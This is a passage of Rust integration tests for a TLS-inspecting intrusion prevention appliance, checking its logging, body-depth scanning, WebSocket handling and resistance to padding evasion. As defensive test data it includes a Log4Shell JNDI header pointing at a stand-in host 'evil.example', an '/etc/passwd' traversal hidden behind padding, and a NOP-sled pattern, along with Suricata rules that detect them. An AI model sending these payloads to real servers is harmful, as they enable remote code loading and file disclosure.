fn decrypted_requests_are_logged_as_http_records_and_flows_as_flow_records() -> Result<()> {
    let (b, ca) = ips_bed("mode = \"monitor\"")?;
    http_and_flow_records(&b, &ca)
}

/// Without the IPS, inspected traffic has the same `http` records.
#[test]
fn http_records_without_the_ips() -> Result<()> {
    let mut b = Bed::new("")?;
    b.nginx()?;
    let ca = b.ca.to_str().unwrap().to_string();
    http_and_flow_records(&b, &ca)
}

fn http_and_flow_records(b: &Bed, ca: &str) -> Result<()> {
    // Two requests on one HTTP/1.1 connection, one over HTTP/2.
    let o = b.curl(&["--http1.1", "--cacert", ca, "-A", "agent/1", "https://server.test/?first", "https://server.test/missing"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = b.curl(&["--http2", "--cacert", ca, "-e", "https://ref.example/", "https://server.test/?h2"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    b.wait_records(2)?;
    let all = b.eve_all();
    let http: Vec<(String, u64, String, String)> = all
        .iter()
        .filter(|r| r["event_type"] == "http")
        .map(|r| {
            let h = &r["http"];
            (h["url"].as_str().unwrap_or("").to_string(), h["status"].as_u64().unwrap_or(0), h["protocol"].as_str().unwrap_or("").to_string(), h["hostname"].as_str().unwrap_or("").to_string())
        })
        .collect();
    assert_eq!(
        http,
        [
            ("/?first".to_string(), 200, "HTTP/1.1".to_string(), "server.test".to_string()),
            ("/missing".to_string(), 404, "HTTP/1.1".to_string(), "server.test".to_string()),
            ("/?h2".to_string(), 200, "HTTP/2".to_string(), "server.test".to_string()),
        ],
        "{all:?}"
    );
    let first = all.iter().find(|r| r["event_type"] == "http").unwrap();
    assert_eq!(first["http"]["http_user_agent"], "agent/1");
    assert!(first["http"]["length"].as_u64().unwrap_or(0) > 0);
    assert!(all.iter().any(|r| r["event_type"] == "http" && r["http"]["http_refer"] == "https://ref.example/"));
    // One flow record per connection, after its tls record.
    let flows: Vec<&serde_json::Value> = all.iter().filter(|r| r["event_type"] == "flow").collect();
    assert_eq!(flows.len(), 2, "{all:?}");
    assert!(flows.iter().all(|f| f["flow"]["age"].is_u64() && f["flow"]["alerted"] == false && f["tls_inspect"]["decision"] == "inspected"));
    assert!(flows.iter().all(|f| f["flow"]["pkts_toserver"].as_u64() > Some(3) && f["flow"]["pkts_toclient"].as_u64() > Some(3)), "{flows:?}");
    tls_inspect_tests::tlsbed::check_eve_schema(&all)?;
    Ok(())
}

/// A head padded past what the HTTP follower holds cannot blind the rules: a 21 KB head (nginx
/// takes it) is followed and its rule fires; a head over 64 KiB, which nginx would also refuse,
/// is blocked as Suricata's "request buffer too long" before the server sees any of it; in
/// monitor mode it is an alert and nginx answers as it would.
#[test]
fn a_padded_head_cannot_blind_the_rules() -> Result<()> {
    let (b, _) = ips_bed("mode = \"block\"\nlevel = \"strict\"")?;
    let pad = |n: usize, each: usize| (0..n).map(|i| format!("X-Pad-{i}: {}\\r\\n", "p".repeat(each))).collect::<String>();
    let request = |padding: &str| format!("s.sendall(b'GET / HTTP/1.1\\r\\nHost: server.test\\r\\n{padding}User-Agent: ${{jndi:ldap://evil.example/a}}\\r\\nConnection: close\\r\\n\\r\\n')\n");
    // 3 x 7 KB: past the old 16 KiB limit, within nginx's 8 KiB per line.
    let out = python_tls_exchange(&b, "", &request(&pad(3, 7000)))?;
    assert!(out.contains("403 Forbidden") && out.contains("sid 9000002"), "{out}");
    // 10 x 7 KB: more than the follower holds.
    let out = python_tls_exchange(&b, "", &request(&pad(10, 7000)))?;
    assert!(out.contains("403 Forbidden") && out.contains("sid 2221018"), "{out}");
    let records = b.wait_records(4)?;
    let a = records.iter().find(|r| r["event_type"] == "alert" && r["alert"]["signature_id"] == 2221018).expect("the anomaly's alert");
    assert_eq!((a["alert"]["action"].as_str(), a["alert"]["signature"].as_str()), (Some("blocked"), Some("SURICATA HTTP request buffer too long")), "{a}");
    assert_eq!(a["alert"]["category"], "Generic Protocol Command Decode");
    let access = std::fs::read_to_string(b.t.dir.join("nginx/access.log")).unwrap_or_default();
    assert!(!access.contains("jndi") && access.lines().count() == 0, "nginx saw a request: {access}");

    // Monitor mode: the alert, and the head goes on to nginx (which refuses one that large).
    let (b, _) = ips_bed("mode = \"monitor\"")?;
    let out = python_tls_exchange(&b, "", &request(&pad(10, 7000)))?;
    assert!(!out.contains("sid 2221018"), "{out}");
    b.wait_records(2)?;
    let access = std::fs::read_to_string(b.t.dir.join("nginx/access.log")).unwrap_or_default();
    assert!(access.contains("\" 400 "), "nginx did not get the request: {access}; {:?}; {}", b.eve(), std::fs::read_to_string(b.t.dir.join("nginx/error.log")).unwrap_or_default());
    let a = alerts(&b);
    assert!(a.iter().any(|r| r["alert"]["signature_id"] == 2221018 && r["alert"]["action"] == "allowed"), "{a:?}");
    Ok(())
}

/// Padding cannot hide a match: many occurrences of a rule's first item that the rest does not
/// follow, before and after the one it does, in the raw stream and in `http.uri` (a flow keeps a
/// few matches per item; it used to keep the first ones and try only the first).
#[test]
fn padding_with_partial_matches_cannot_hide_the_complete_one() -> Result<()> {
    let (b, ca) = with_rule_file(
        "padding",
        "reject tcp any any -> any any (msg:\"sled\"; flow:to_server; content:\"%u9090%u\"; nocase; pcre:\"/^[a-f0-9]{4}/Ri\"; sid:7910001;)\n\
         reject http any any -> any any (msg:\"traversal\"; flow:to_server; http.uri; content:\"/\"; content:\"etc/passwd\"; distance:0; within:11; sid:7910002;)\n",
        |rules| ips_bed(&format!("mode = \"block\"\ndefault_rules = false\nrules = [\"{}\"]", rules.display())),
    )?;
    let get = |path: &str| {
        let url = format!("https://server.test{path}");
        let o = b.curl(&["--http1.1", "-g", "--path-as-is", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--cacert", &ca, &url]);
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let pad = "%u9090%uzz-".repeat(300);
    assert_eq!(get(&format!("/?{pad}%u9090%U90aF{pad}")), "403", "the sled behind its padding");
    assert_eq!(get(&format!("/?{pad}")), "200", "padding alone");
    let deep = "/a".repeat(200);
    assert_eq!(get(&format!("{deep}/etc/passwd")), "403", "the traversal behind 200 slashes");
    assert_eq!(get(&format!("{deep}/xxxxxxxxxxxxetc/passwd")), "404", "a slash too far from etc/passwd");
    let records = b.wait_records(6)?;
    let sids: Vec<_> = records.iter().filter(|r| r["event_type"] == "alert").map(|r| (r["alert"]["signature_id"].clone(), r["alert"]["action"].clone())).collect();
    assert_eq!(sids, [(7910001.into(), "blocked".into()), (7910002.into(), "blocked".into())], "{records:?}");
    let access = std::fs::read_to_string(b.t.dir.join("nginx/access.log")).unwrap_or_default();
    assert!(!access.contains("90aF") && !access.contains("/etc/passwd "), "nginx saw a blocked request: {access}");
    Ok(())
}

/// Past `body_depth` (1 MiB), an HTTP body goes through no IPS database by default: a marker
/// 2 MiB into a download is not seen, the bytes are counted (the flow's EVE records, the worker
/// counter), and the next response on the same connection is scanned again, head, body and
/// stream; over HTTP/1.1 and HTTP/2. With `past_body_depth = "stream"` the stream still scans
/// the whole download.
#[test]
fn a_body_past_the_depth_is_counted_not_scanned_and_the_next_response_is() -> Result<()> {
    let rules = "alert tcp any any -> any any (msg:\"deep marker\"; flow:to_client; content:\"MARKER-7a1c\"; sid:7920001;)\n\
                 alert http any any -> any any (msg:\"small body\"; flow:to_client; file.data; content:\"SMALL-5e2d\"; sid:7920002;)\n\
                 alert tcp any any -> any any (msg:\"small stream\"; flow:to_client; content:\"TAIL-3b9f\"; sid:7920003;)\n";
    for (past, deep_fires) in [("skip", false), ("stream", true)] {
        let (b, ca) = with_rule_file("depth", rules, |path| {
            ips_bed(&format!("mode = \"monitor\"\ndefault_rules = false\npast_body_depth = \"{past}\"\nrules = [\"{}\"]", path.display()))
        })?;
        let mut file = vec![b'.'; 3 << 20];
        file[2 << 20..(2 << 20) + 11].copy_from_slice(b"MARKER-7a1c");
        std::fs::write(b.t.dir.join("nginx/www/marked"), &file)?;
        std::fs::write(b.t.dir.join("nginx/www/small"), b"..SMALL-5e2d..TAIL-3b9f..")?;
        let mut counted_before = 0;
        for version in ["--http1.1", "--http2"] {
            // Both on one connection.
            let o = b.curl(&[version, "--cacert", &ca, "-o", "/dev/null", "-o", "/dev/null", "-w", "%{size_download} %{num_connects}\\n", "https://server.test/marked", "https://server.test/small"]);
            let out = String::from_utf8_lossy(&o.stdout);
            assert_eq!(out.lines().collect::<Vec<_>>(), ["3145728 1", "25 0"], "{past} {version}: {out}{}", String::from_utf8_lossy(&o.stderr));
            let flows = |b: &Bed| b.eve_all().into_iter().filter(|r| r["event_type"] == "flow").collect::<Vec<_>>();
            let n = if version == "--http2" { 2 } else { 1 };
            tls_inspect_tests::wait_until("the flow record", std::time::Duration::from_secs(10), || Ok(flows(&b).len() >= n))?;
            let flow = flows(&b).pop().expect("a flow record");
            let sids: Vec<u64> = alerts(&b).iter().filter(|a| a["flow_id"] == flow["flow_id"]).filter_map(|a| a["alert"]["signature_id"].as_u64()).collect();
            assert_eq!(sids.contains(&7920001), deep_fires, "{past} {version}: {sids:?}");
            assert!(sids.contains(&7920002) && sids.contains(&7920003), "{past} {version}: the next response is scanned: {sids:?}");
            let unscanned = flow["tls_inspect"]["ips_unscanned_bytes"]["toclient"].as_u64().unwrap_or(0);
            if deep_fires {
                assert_eq!(unscanned, 0, "{version}: {flow}");
            } else {
                // Everything past the depth but the read that crosses it.
                assert!(((2 << 20) - (64 << 10)..=2 << 20).contains(&unscanned), "{version}: {flow}");
            }
            // The workers' counter says the same (its value is published a moment later).
            let counted = || b.t.metric("tls_inspect_worker_ips_unscanned_bytes_total", &[]).map(|n| n - counted_before);
            tls_inspect_tests::wait_until("the counter", std::time::Duration::from_secs(5), || Ok(counted()? == unscanned))
                .map_err(|e| anyhow::anyhow!("{version}: {e}: {:?} against {unscanned}", counted()))?;
            counted_before += unscanned;
        }
    }
    Ok(())
}

/// A WebSocket through the appliance in block mode: after the server's `101`, the frames both
/// ways are not HTTP, and no anomaly blocks them (they used to be an invalid head, blocked).
#[test]
fn a_websocket_upgrade_is_followed_by_frames_not_blocked_as_broken_http() -> Result<()> {
    let mut b = Bed::new("[ips]\nenabled = true\nmode = \"block\"\nlevel = \"strict\"")?;
    // A WebSocket server in the server's namespace (port 8443, inspected): it answers the
    // upgrade, reads one frame and sends one back.
    let server = format!(
        "import socket, ssl\n\
         ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)\n\
         ctx.load_cert_chain('{}', '{}')\n\
         ls = socket.socket(); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         ls.bind(('{SERVER_IP}', 8443)); ls.listen(1); print('listening', flush=True)\n\
         c, _ = ls.accept(); s = ctx.wrap_socket(c, server_side=True)\n\
         head = b''\n\
         while b'\\r\\n\\r\\n' not in head: head += s.recv(4096)\n\
         s.sendall(b'HTTP/1.1 101 Switching Protocols\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\\r\\n\\r\\n')\n\
         frame = s.recv(4096)\n\
         print('frame', len(frame), flush=True)\n\
         s.sendall(b'\\x82\\x05hello')\n\
         s.close()\n",
        b.server.cert.display(),
        b.server.key.display()
    );
    let mut c = b.t.server.cmd("python3");
    c.args(["-c", &server]);
    let i = b.t.spawn(c)?;
    b.t.background(i).wait_for("listening", std::time::Duration::from_secs(10))?;
    let client = format!(
        "import socket, ssl\n\
         raw = socket.create_connection(('{SERVER_IP}', 8443), timeout=10)\n\
         s = ssl.create_default_context(cafile='{}').wrap_socket(raw, server_hostname='server.test')\n\
         s.sendall(b'GET /chat HTTP/1.1\\r\\nHost: server.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n')\n\
         head = b''\n\
         while b'\\r\\n\\r\\n' not in head: head += s.recv(4096)\n\
         print(head.split(b'\\r\\n')[0].decode())\n\
         s.sendall(bytes([0x82, 0x84, 1, 2, 3, 4, 0xff, 0x00, 0x10, 0x20]))\n\
         data = b''\n\
         while len(data) < 7:\n\
         \x20   chunk = s.recv(4096)\n\
         \x20   if not chunk: break\n\
         \x20   data += chunk\n\
         print(data[2:].decode(errors='replace'))\n",
        b.ca.display()
    );
    let out = check(b.t.client.cmd("python3").args(["-c", &client]))?;
    assert_eq!(out.lines().collect::<Vec<_>>(), ["HTTP/1.1 101 Switching Protocols", "hello"], "{out}");
    b.t.background(i).wait_for("frame 10", std::time::Duration::from_secs(10))?;
    let records = b.wait_records(1)?;
    assert!(records.iter().all(|r| r["event_type"] != "alert"), "no anomaly: {records:?}");
    Ok(())
}
